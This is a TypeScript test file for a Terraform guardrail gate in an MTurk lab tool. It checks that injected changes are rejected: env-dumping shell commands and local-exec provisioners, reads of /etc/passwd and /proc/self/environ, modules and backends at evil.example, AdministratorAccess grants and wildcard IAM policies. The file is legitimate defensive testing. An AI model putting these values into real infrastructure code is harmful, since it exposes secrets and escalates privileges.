import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type GateRuleName, gateProblems, type Json } from '../../../src/guardrails/gate/gate.ts';
import { isWritten } from '../../../src/guardrails/gate/gate-references.ts';
import { gateLines } from '../../../src/guardrails/gate/gate-text.ts';
import type { Stack } from '../../../src/guardrails/managed.ts';
import type { Team } from '../../../src/team/team.ts';
import { synthesise } from '../../../src/terraform/synth/synth.ts';
import { sampleTeam } from '../../support/sample-team.ts';

const inBucket: Team = {
  ...sampleTeam,
  settings: { ...sampleTeam.settings, state: { bucket: 'lab-state', region: 'eu-central-1' } },
};

async function written(team: Team): Promise<Record<Stack, string>> {
  const outDir = mkdtempSync(join(tmpdir(), 'mturk-team-gate-'));
  try {
    const { stacks } = await synthesise(team, { today: '2026-11-25', outDir });
    const read = (stack: Stack) => readFileSync(join(stacks[stack], 'cdk.tf.json'), 'utf8');
    return { team: read('team'), bootstrap: read('bootstrap') };
  } finally {
    rmSync(outDir, { recursive: true, force: true });
  }
}

const sample = await written(sampleTeam);

test.each([
  ['a local state', sampleTeam],
  ['a state in a bucket', inBucket],
  ['a frozen lab', { ...sampleTeam, freeze: ['pay:bonus'] } as Team],
])('what synth writes goes through: %s', async (_what, team) => {
  const texts = await written(team);
  for (const stack of ['team', 'bootstrap'] as const) {
    expect(gateProblems({ stack, configuration: JSON.parse(texts[stack]) as Json, team })).toEqual([]);
  }
});

type Attack = (configuration: Json) => void;

/** Puts a value at a path of keys with dots; undefined takes away what is there. */
const set =
  (path: string, value: unknown): Attack =>
  (configuration) => {
    const keys = path.split('.');
    const last = keys.pop() ?? '';
    const holder = keys.reduce<unknown>((each, key) => (each as Record<string, unknown>)[key], configuration);
    (holder as Record<string, unknown>)[last] = value;
  };
const push =
  (path: string, value: unknown): Attack =>
  (configuration) => {
    const list = path.split('.').reduce<unknown>((each, key) => (each as Record<string, unknown>)[key], configuration);
    (list as unknown[]).push(value);
  };

const evil = (policy: object) => JSON.stringify({ Version: '2012-10-17', Statement: [policy] });

const ATTACKS: [string, GateRuleName, Attack][] = [
  [
    'a provider with another endpoint',
    'only-the-aws-provider',
    set('provider.aws.0.endpoints', [{ iam: 'https://evil.example' }]),
  ],
  ['a second provider', 'only-the-aws-provider', set('provider.http', [{}])],
  ['a second configuration of aws', 'only-the-aws-provider', push('provider.aws', { alias: 'b', region: 'us-east-1' })],
  ['another account', 'only-the-aws-provider', set('provider.aws.0.allowed_account_ids', ['210987654321'])],
  ['no account', 'only-the-aws-provider', set('provider.aws.0.allowed_account_ids', undefined)],
  [
    'another role',
    'only-the-aws-provider',
    set('provider.aws.0.assume_role', [{ role_arn: 'arn:aws:iam::210987654321:role/x' }]),
  ],
  [
    'another source of the provider',
    'only-the-aws-provider',
    set('terraform.required_providers.aws.source', 'evil/aws'),
  ],
  [
    'another version of the provider',
    'only-the-aws-provider',
    set('terraform.required_providers.aws.version', '>= 1.0'),
  ],
  [
    'one more required provider',
    'only-the-aws-provider',
    set('terraform.required_providers.evil', { source: 'evil/evil' }),
  ],
  ['a data source', 'only-known-blocks', set('data', { external: { x: { program: ['sh', '-c', 'env'] } } })],
  ['a module', 'only-known-blocks', set('module', { x: { source: 'git::https://evil.example/x.git' } })],
  ['removed', 'only-known-blocks', set('removed', [{ from: 'aws_iam_user.member_bo', lifecycle: { destroy: false } }])],
  [
    'path-changed',
    'only-known-blocks',
    set('path-changed', [{ from: 'aws_iam_user.member_bo', to: 'aws_iam_user.x' }]),
  ],
  ['import', 'only-known-blocks', set('import', [{ to: 'aws_iam_user.member_bo', id: 'root-admin' }])],
  ['an output', 'only-known-blocks', set('output', { env: { value: '${file("/proc/self/environ")}' } })],
  ['a variable', 'only-known-blocks', set('variable', { x: { default: 'y' } })],
  ['a check', 'only-known-blocks', set('check', { x: {} })],
  ['another local', 'only-known-blocks', set('locals.secret', '${file("/etc/passwd")}')],
  ['a cloud block', 'only-known-blocks', set('terraform.cloud', { organization: 'evil' })],
  ['provider functions', 'only-known-blocks', set('terraform.experiments', ['x'])],
  ['another backend', 'backend-as-configured', set('terraform.backend', { http: { address: 'https://evil.example' } })],
  [
    'another bucket',
    'backend-as-configured',
    set('terraform.backend', { s3: { bucket: 'evil', key: 'x', region: 'us-east-1' } }),
  ],
  ['another place of a local state', 'backend-as-configured', set('terraform.backend.local.path', '/tmp/state')],
  ['no backend', 'backend-as-configured', set('terraform.backend', undefined)],
  [
    'another resource type',
    'only-our-resource-types',
    set('resource.aws_iam_access_key', { x: { user: 'perception-lab-bo' } }),
  ],
  [
    'null_resource with local-exec',
    'only-our-resource-types',
    set('resource.null_resource', { x: { provisioner: { 'local-exec': { command: 'env' } } } }),
  ],
  [
    'a provisioner',
    'only-known-arguments',
    set('resource.aws_iam_user.member_bo.provisioner', [{ 'local-exec': { command: 'env' } }]),
  ],
  ['a connection', 'only-known-arguments', set('resource.aws_iam_user.member_bo.connection', { host: 'evil.example' })],
  ['count', 'only-known-arguments', set('resource.aws_iam_user.member_bo.count', 0)],
  ['for_each', 'only-known-arguments', set('resource.aws_iam_user.member_bo.for_each', ['a'])],
  ['a provider of one resource', 'only-known-arguments', set('resource.aws_iam_user.member_bo.provider', 'aws.b')],
  [
    'ignore_changes',
    'only-known-arguments',
    set('resource.aws_iam_user_policy.member_bo_limits.lifecycle.ignore_changes', 'all'),
  ],
  [
    'a precondition',
    'only-known-arguments',
    set('resource.aws_iam_user.member_bo.lifecycle', { precondition: [{ condition: '${file("x")}' }] }),
  ],
  [
    'two bodies for one resource',
    'only-known-arguments',
    set('resource.aws_iam_user.member_bo', [{ name: 'perception-lab-bo' }, {}]),
  ],
  [
    'an expression in a policy',
    'no-expressions',
    set('resource.aws_iam_policy.role_paymaster.policy', '{"Statement":[],"Id":"${file("/etc/passwd")}"}'),
  ],
  ['an expression in a tag', 'no-expressions', set('resource.aws_iam_user.member_bo.tags.x', '${timestamp()}')],
  ['an expression in a key', 'no-expressions', set('resource.aws_iam_user.member_bo.tags', { '${file("x")}': 'x' })],
  ['a directive', 'no-expressions', set('resource.aws_iam_user.member_bo.tags.x', '%{ if true }x%{ endif }')],
  [
    'an expression behind an escape',
    'no-expressions',
    set('resource.aws_iam_user.member_bo.tags.x', '$$${timestamp()}'),
  ],
  [
    'a reference with more behind it',
    'no-expressions',
    set('resource.aws_iam_group_membership.role_paymaster.group', '${aws_iam_group.role_paymaster.name}${timestamp()}'),
  ],
  [
    'a reference to what is not there',
    'no-expressions',
    set('resource.aws_iam_group_membership.role_paymaster.group', '${aws_iam_group.other.name}'),
  ],
  [
    'a reference to another attribute',
    'no-expressions',
    set('resource.aws_iam_group_membership.role_paymaster.group', '${aws_iam_group.role_paymaster.arn}'),
  ],
  [
    'a reference at another place',
    'no-expressions',
    set('resource.aws_iam_user.member_bo.name', '${aws_iam_user.member_ada.name}'),
  ],
  ['a user outside the path', 'inside-the-managed-path', set('resource.aws_iam_user.member_bo.path', '/')],
  [
    'a user with a name of nobody here',
    'inside-the-managed-path',
    set('resource.aws_iam_user.member_bo.name', 'admin'),
  ],
  ['a group outside', 'inside-the-managed-path', set('resource.aws_iam_group.role_paymaster.path', '/admins/')],
  ['a policy outside', 'inside-the-managed-path', set('resource.aws_iam_policy.role_paymaster.path', '/')],
  [
    'AdministratorAccess',
    'inside-the-managed-path',
    set(
      'resource.aws_iam_group_policy_attachment.role_paymaster_own.policy_arn',
      'arn:aws:iam::aws:policy/AdministratorAccess',
    ),
  ],
  [
    'AdministratorAccess among others',
    'inside-the-managed-path',
    push(
      'resource.aws_iam_group_policy_attachments_exclusive.role_paymaster.policy_arns',
      'arn:aws:iam::aws:policy/AdministratorAccess',
    ),
  ],
  [
    "somebody else's user in a group",
    'inside-the-managed-path',
    push('resource.aws_iam_group_membership.role_paymaster.users', 'admin'),
  ],
  [
    "a member in somebody else's group",
    'inside-the-managed-path',
    set('resource.aws_iam_group_membership.role_paymaster.group', 'Admins'),
  ],
  [
    'a user without the boundary',
    'users-have-the-boundary',
    set('resource.aws_iam_user.member_bo.permissions_boundary', undefined),
  ],
  [
    'a user with another boundary',
    'users-have-the-boundary',
    set('resource.aws_iam_user.member_bo.permissions_boundary', 'arn:aws:iam::aws:policy/AdministratorAccess'),
  ],
  [
    'a policy that allows IAM',
    'only-mturk-permissions',
    set(
      'resource.aws_iam_policy.role_paymaster.policy',
      evil({
        Effect: 'Allow',
        Action: ['iam:CreateAccessKey'],
        Resource: '*',
      }),
    ),
  ],
  [
    'a policy that allows everything',
    'only-mturk-permissions',
    set('resource.aws_iam_policy.role_paymaster.policy', evil({ Effect: 'Allow', Action: '*', Resource: '*' })),
  ],
  [
    'a policy by NotAction',
    'only-mturk-permissions',
    set(
      'resource.aws_iam_policy.role_paymaster.policy',
      evil({
        Effect: 'Allow',
        NotAction: ['s3:GetObject'],
        Resource: '*',
      }),
    ),
  ],
  [
    'an inline policy that allows',
    'only-mturk-permissions',
    set(
      'resource.aws_iam_user_policy.member_bo_limits.policy',
      evil({
        Effect: 'Allow',
        Action: 'sts:*',
        Resource: '*',
      }),
    ),
  ],
  ['a policy that is no policy', 'only-mturk-permissions', set('resource.aws_iam_policy.role_paymaster.policy', 'x')],
];

test.each(ATTACKS)('%s is stopped by %s', (_what, rule, attack) => {
  const configuration = JSON.parse(sample.team) as Json;
  attack(configuration);
  const problems = gateProblems({ stack: 'team', configuration, team: sampleTeam });
  expect([...new Set(problems.map((problem) => problem.rule))]).toContain(rule);
  expect(gateLines(problems, 'out').join('\n')).toContain(rule);
});

test.each([
  [
    'a wider boundary',
    'only-mturk-permissions',
    set('resource.aws_iam_policy.boundary.policy', evil({ Effect: 'Allow', Action: '*', Resource: '*' })),
  ],
  ['a user in it', 'only-our-resource-types', set('resource.aws_iam_user', { x: {} })],
])("in the administrator's stack, %s is stopped by %s", (_what, rule, attack) => {
  const configuration = JSON.parse(sample.bootstrap) as Json;
  attack(configuration);
  const problems = gateProblems({ stack: 'bootstrap', configuration, team: sampleTeam });
  expect(problems.map((problem) => problem.rule)).toContain(rule);
});

test.each([[null], [[]], ['text'], [{}], [{ resource: [] }], [{ resource: { aws_iam_user: [] } }], [{ terraform: 3 }]])(
  '%j is refused, and breaks nothing',
  (configuration) => {
    expect(gateProblems({ stack: 'team', configuration, team: sampleTeam }).length).toBeGreaterThan(0);
  },
);

test.each([
  ['plain', true],
  ['$${aws:username}', true],
  ['%%{x}', true],
  ['$', true],
  ['${x}', false],
  ['$$${x}', false],
  ['%{x}', false],
  ['$${a}${b}', false],
])('%s means itself: %s', (text, value) => {
  expect(isWritten(text)).toBe(value);
});
